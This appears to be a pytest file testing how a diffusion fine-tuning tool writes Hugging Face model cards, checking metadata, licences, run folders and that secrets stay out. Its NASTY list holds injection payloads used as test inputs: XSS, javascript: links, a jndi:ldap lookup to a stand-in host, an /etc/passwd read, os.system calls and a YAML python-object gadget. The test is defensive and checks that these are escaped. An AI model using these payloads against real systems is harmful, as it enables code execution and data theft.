# SPDX-FileCopyrightText: 2026 The diffusers-difftune authors
# SPDX-License-Identifier: Apache-2.0
"""The model card: what it says, that nobody else writes in it, and that it is made of the run folder's files."""

import ast
import json
import re
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from huggingface_hub import ModelCard
from PIL import Image

from diffusers_difftune.cli import main
from diffusers_difftune.errors import DiffTuneError
from diffusers_difftune.publishing.card import inherited_license, model_card, renew_card, write_run_card
from diffusers_difftune.publishing.card.markdown import escaped, plain
from tests.hub_server import HubServer


CONFIG = {
    "pretrained_model_name_or_path": "org/base",
    "dataset_name": "org/drawings",
    "objective": "difftune",
    "source_share": 0.2,
    "learning_rate": 1e-4,
    "resolution": 16,
    "hub_token": "hf_secret",
    "output_dir": "/home/someone/out",
    "center_crop": False,
}


def card_of(folder: Path, flags: dict, log: Sequence[dict] = (), **facts: Any) -> str:
    """The card of a run with these flags; `facts` are where it is uploaded, its licence, and what came out of it."""
    repo_id, license = facts.pop("repo_id", None), facts.pop("license", None)
    told = {"result": "pipeline", "pipeline_class": "StableDiffusionPipeline"} | facts
    return model_card(folder, {"flags": flags, "seed": 7, "card": told}, log, repo_id, license)


def test_card(tmp_path: Path) -> None:
    base = tmp_path / "base"
    base.mkdir()
    (base / "README.md").write_text("---\nlicense: creativeml-openrail-m\ntags: [x]\n---\n# Base\n")
    for image in ("validation/step 4.png", "figures/losses.png"):
        (tmp_path / image).parent.mkdir()
        (tmp_path / image).touch()
    last = {"step": 1200, "loss_reconsolidation": 0.123456789, "loss_retention": 0.25, "lr": 0.1}
    text = card_of(
        tmp_path,
        CONFIG,
        [{"step": 0, "quality": {"fid": 20.5}}, last | {"quality": {"fid": 10.25, "kid": 0.125}}],
        repo_id="user/icons",
        license=inherited_license({"pretrained_model_name_or_path": str(base)}),
        num_rows=300,
        knowledge_bank={
            "num_samples": 1000,
            "solver": "ddim",
            "steps": 50,
            "guidance_scale": 1.0,
            "prompt_source": "/home/x/p.txt",
        },
        images={"a red | bar": ["validation/step 4.png", "validation/none.png"]},
    )
    card = ModelCard(text)
    assert card.data.to_dict() == {
        "license": "creativeml-openrail-m",
        "library_name": "diffusers",
        "pipeline_tag": "text-to-image",
        "base_model": "org/base",
        "base_model_relation": "finetune",
        "datasets": ["org/drawings"],
        "tags": [
            *("text-to-image", "diffusers", "diffusers-training", "diff-tuning"),
            *("stable-diffusion", "stable-diffusion-diffusers"),
        ],
        "widget": [{"text": "a red | bar", "output": {"url": "validation/step 4.png"}}],
    }
    for text in (
        *("# icons\n", "(300 rows) for 1,200 steps", "![](validation/step%204.png)", "| learning rate | 0.0001 |"),
        *("| loss reconsolidation | 0.123457 |", "| num samples | 1000 |", "| prompt source | p.txt |"),
        *(
            "| quality: fid | 20.5 | 10.25 |",
            "| quality: kid |  | 0.125 |",
            "The losses while it trained:\n\n![](figures/losses.png)",
        ),
        *("arXiv:2406.00773", 'from_pretrained("user/icons")', 'pipeline("a red | bar", height=16, width=16)'),
    ):
        assert text in card.text
    assert not any(name in card.content for name in ("none.png", "| lr |", "noise_levels"))
    assert "someone" not in card.content and "hf_secret" not in card.content and "center crop" not in card.text


def test_card_without_anything(tmp_path: Path) -> None:
    config = {"pretrained_model_name_or_path": str(tmp_path), "objective": "standard", "hub_token": None}
    card = ModelCard(card_of(tmp_path, config))
    assert card.data.to_dict() == {
        "library_name": "diffusers",
        "pipeline_tag": "text-to-image",
        "tags": [
            *("text-to-image", "diffusers", "diffusers-training", "stable-diffusion", "stable-diffusion-diffusers"),
        ],
    }
    assert "standard fine-tuning" in card.text and str(tmp_path) not in card.content


def test_card_of_lora_says_how_to_load_it(tmp_path: Path) -> None:
    card = ModelCard(card_of(tmp_path, CONFIG | {"rank": 4}, repo_id="user/lora", result="lora"))
    assert card.data.base_model_relation == "adapter" and card.data.tags[-1] == "lora"
    assert (
        'from_pretrained("org/base", dtype=torch.float32)' in card.text
        and 'load_lora_weights("user/lora")' in card.text
    )
    assert "| rank | 4 |" in card.text


def test_a_base_that_is_a_folder_of_this_machine_is_a_path_to_fill_in(tmp_path: Path) -> None:
    config = {"pretrained_model_name_or_path": str(tmp_path), "lr_scheduler": "constant", "lr_warmup_steps": 500}
    text = card_of(tmp_path, config, result="lora")
    assert f'from_pretrained("path/to/{tmp_path.name}", dtype=torch.float32)' in text and str(tmp_path) not in text
    assert "warmup" not in text, "the schedule that is constant has none"
    assert "| lr warmup steps | 500 |" in card_of(tmp_path, config | {"lr_scheduler": "cosine"})


def test_license_from_the_hub(hub_server: HubServer) -> None:
    hub_server.cards["models/org/base"] = {
        "license": "other",
        "license_name": "some-license",
        "license_link": "https://example.com/license",
        "tags": ["x"],
    }
    program = """
        import sys
        from diffusers_difftune.publishing.card import inherited_license
        print(inherited_license({"pretrained_model_name_or_path": sys.argv[1]}))
    """
    found = hub_server.run(program, "org/base").stdout.strip()
    assert found == str({k: v for k, v in hub_server.cards["models/org/base"].items() if k != "tags"})
    assert hub_server.run(program, "org/not-there").stdout.strip() == "{}"


def test_license_is_left_out_without_a_network() -> None:
    assert inherited_license({"pretrained_model_name_or_path": "org/base"}) == {}
    assert inherited_license({}) == {}


# What prompts, class names, folders and captions may hold. Each is to be shown, and to do nothing.
NASTY = [
    "---\nlicense: mit\ntags: [evil]\n---\n# Owned",
    "a\n\n# Owned\n\n| x | y |\n|---|---|\n| 1 | 2 |",
    "```\n\n# Owned\n\n```python\nimport os; os.system('id')\n```",
    "<script>alert(1)</script><img src=x onerror=alert(1)> <!-- hidden",
    "![tracker](https://evil.example/pixel.png) [click](javascript:alert(1)) www.evil.example @someone",
    "{{ config.items() }} {% for x in y %} ${jndi:ldap://evil} $\\input{/etc/passwd}$",
    '"); import os; os.system("id"); print("',
    "red\u2028# Owned\x00\x1b[31mred\x07\u202egnp.exe\u200b",
    "*bold* _under_ ~~gone~~ `code` \\ | cell | > quote &lt;b&gt; \ud800",
    "- a: &anchor [b, *anchor, !!python/object/apply:os.system ['id']]",
    "   ",
]


MARKS = (*"<>[]`$~{}!@|*\\", "](", "://", "www.")


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("result", ["pipeline", "lora", "controlnet"])
def test_nobody_else_writes_in_the_card(tmp_path: Path, text: str, result: str) -> None:
    def parts(words: str, name: str) -> tuple[dict, str, list[str]]:
        config = CONFIG | {"pretrained_model_name_or_path": words, "dataset_name": words, "condition_model": words}
        config |= {"lora_target_modules": [words, words], "train_parameters": [words]}
        bank = {"prompt_source": words, "seed": 0}
        image = tmp_path / name / "validation" / "0.png"
        image.parent.mkdir(parents=True, exist_ok=True)
        image.touch()
        images = {words: ["validation/0.png"]}
        card = card_of(tmp_path / name, config, images=images, knowledge_bank=bank, result=result)
        front, body = card.split("\n---\n", 1)
        code = body.split("```python\n")[1].split("```")[0]
        return yaml.safe_load(front.removeprefix("---\n")), code, body.splitlines()

    metadata, code, lines = parts(text, re.sub(r"[/\x00\ud800]", "", text) or "x")
    tame, tame_code, tame_lines = parts("words", "name")
    shown = metadata.pop("widget", [{"text": plain(text)}])
    tame.pop("widget", None)
    assert metadata == tame and [entry["text"] for entry in shown] == [plain(text)]
    tree = ast.parse(code)
    assert [type(node) for node in tree.body] == [type(node) for node in ast.parse(tame_code).body]
    assert plain(text) in [node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)]
    # Line for line the same card, and what differs has nothing that Markdown, HTML or a template would see.
    assert len(lines) == len(tame_lines)
    inside = False
    for line, tame_line in zip(lines, tame_lines, strict=True):
        inside ^= line.startswith("```")
        if not inside and "![](" not in line:
            assert all(line.count(mark) == tame_line.count(mark) for mark in MARKS), line
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u200b\u202a-\u202e]", line)


def test_words_stay_readable() -> None:
    for text in (
        "a cat, sitting",
        "to_q",
        "5 o'clock: tea (green)",
        "日本語",
        "👩\u200d🚀",
        "http: no",
        "ash-tree 1.5",
    ):
        assert escaped(text) == plain(text) == text


def run_folder(folder: Path, **card) -> Path:
    """What a run leaves that a card is made of."""
    flags = CONFIG | {"pretrained_model_name_or_path": "base", "dataset_name": None, "reconsolidation_power": 2.0}
    facts = {"repo_id": None, "result": "pipeline", "pipeline_class": "StableDiffusionPipeline", "num_rows": 6}
    facts |= {"knowledge_bank": None, "license": {"license": "mit"}, "images": {"a dog": ["validation/step-2/0.png"]}}
    config = {"flags": flags, "seed": 7, "total_steps": 12, "card": facts | card}
    (folder / "validation" / "step-2").mkdir(parents=True)
    Image.new("RGB", (8, 8)).save(folder / "validation" / "step-2" / "0.png")
    (folder / "run_config.json").write_text(json.dumps(config))
    lines = [{"step": 0, "quality": {"fid": 9.5}}]
    lines += [{"step": i, "loss": 1 / i, "loss_reconsolidation": 1 / i, "loss_retention": 0.5} for i in range(1, 13)]
    lines[5]["loss_reconsolidation"] = None  # a step that was left out
    lines[-1]["quality"] = {"fid": 4.5}
    (folder / "training_log.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines) + '{"step": 13, "l')
    return folder


def test_card_of_a_run_folder(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    folder = run_folder(tmp_path / "run")
    assert main(["card", str(folder), "--repo_id", "user/dogs"]) == 0
    assert capsys.readouterr().out == f"{folder / 'README.md'}\n"
    card = ModelCard.load(folder / "README.md")
    assert card.data.license == "mit" and card.data.base_model is None
    for text in (
        *("# dogs\n", "trained on a set of images (6 rows) for 12 steps", "*a dog*\n\n![](validation/step-2/0.png)"),
        *('from_pretrained("user/dogs")', "| seed | 7 |", "| loss retention | 0.5 |", "| quality: fid | 9.5 | 4.5 |"),
        *("![](figures/noise_levels.png)", "![](figures/losses.png)"),
    ):
        assert text in card.content
    for name in ("noise_levels", "losses"):
        image = Image.open(folder / "figures" / f"{name}.png").convert("RGB")
        assert min(image.size) > 200 and len(image.getcolors(10**6)) > 20, "something is drawn"
    first = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    write_run_card(folder, "user/dogs")
    assert {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()} == first


def test_card_of_a_run_that_goes_on(tmp_path: Path) -> None:
    folder = run_folder(tmp_path / "run")
    config = json.loads((folder / "run_config.json").read_text())
    (folder / "run_config.json").write_text(json.dumps(config | {"total_steps": 1000}))
    assert "Training goes on: it is to make 1,000 steps." in write_run_card(folder).read_text()


def test_card_without_matplotlib_images_or_a_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = run_folder(tmp_path / "run")
    (folder / "training_log.jsonl").unlink()
    (folder / "validation" / "step-2" / "0.png").unlink()
    monkeypatch.setitem(sys.modules, "matplotlib.figure", None)
    card = write_run_card(folder).read_text()
    assert "![]" not in card and not (folder / "figures").exists() and "## Use" in card


def test_standard_fine_tuning_has_no_coefficients_to_draw(tmp_path: Path) -> None:
    folder = run_folder(tmp_path / "run")
    config = json.loads((folder / "run_config.json").read_text())
    config["flags"]["objective"] = "standard"
    (folder / "run_config.json").write_text(json.dumps(config))
    assert "noise_levels" not in write_run_card(folder).read_text()


@pytest.mark.parametrize(
    "content, said",
    [(None, "has no run_config.json"), ("{}", "does not say what came out"), ("{", "does not say what")],
)
def test_what_is_no_finished_run(tmp_path: Path, content: str | None, said: str) -> None:
    if content is not None:
        (tmp_path / "run_config.json").write_text(content)
    with pytest.raises(DiffTuneError, match=said):
        write_run_card(tmp_path)


def test_the_example_loads_from_where_it_is_pushed_to(tmp_path: Path) -> None:
    folder = run_folder(tmp_path / "run")
    write_run_card(folder)
    renew_card(folder, "user/there")
    assert 'from_pretrained("user/there")' in (folder / "README.md").read_text()
    edited = write_run_card(folder).read_text() + "\nMy own words.\n"
    (folder / "README.md").write_text(edited)
    renew_card(folder, "user/there")
    assert (folder / "README.md").read_text() == edited, "what someone wrote stays"
    (folder / "README.md").unlink()
    renew_card(folder, "user/there")
    assert 'from_pretrained("user/there")' in (folder / "README.md").read_text()
    renew_card(tmp_path, "user/there")
    assert not (tmp_path / "README.md").exists(), "of no run"
